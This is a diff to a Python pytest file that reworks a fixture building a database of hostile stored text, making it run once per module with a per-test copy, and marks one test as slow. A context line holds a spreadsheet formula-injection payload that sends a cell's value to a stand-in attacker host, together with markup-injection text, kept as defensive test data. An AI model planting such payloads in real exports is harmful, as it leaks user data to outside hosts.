@@ -12,7 +12,7 @@ import sqlite3
 import pytest
 
 from tests.conftest import RECORDINGS as ROOT_RECORDINGS
-from tests.conftest import cli
+from tests.conftest import cli, copy_db, frozen_env
 
 EVIL_TITLE = (
     '=HYPERLINK("https://evil.example/?x="&A1,"Klimat klick") [/b] [link=https://evil.example]'
@@ -38,10 +38,23 @@ def write_jsonl(path, rows):
     return path
 
 
-@pytest.fixture
-def hostile_db(tmp_path):
+@pytest.fixture(scope="module")
+def hostile_db_once(tmp_path_factory):
     """A database holding hostile text as an older callwatch stored it (written straight into
-    the table, past today's input validation), plus hostile decisions."""
+    the table, past today's input validation), plus hostile decisions; built once per module,
+    never written to: tests use their own copy, `hostile_db`."""
+    tmp_path = tmp_path_factory.mktemp("hostile")
+    with pytest.MonkeyPatch.context() as mp:
+        frozen_env(mp, tmp_path)
+        return _build_hostile_db(tmp_path)
+
+
+@pytest.fixture
+def hostile_db(hostile_db_once, tmp_path):
+    return copy_db(hostile_db_once, tmp_path / "h.db")
+
+
+def _build_hostile_db(tmp_path):
     f = write_jsonl(
         tmp_path / "c.jsonl",
         [BASE | {"id": "evil-1"}, BASE | {"id": "evil-2", "url": "https://example.org/2"}],
@@ -367,6 +380,7 @@ def _sources_pointing_at(tmp_path, url: str):
     return folder
 
 
+@pytest.mark.slow
 def test_item7_no_encoded_form_of_a_key_is_stored_recorded_or_printed(tmp_path, monkeypatch):
     import os
     import zlib
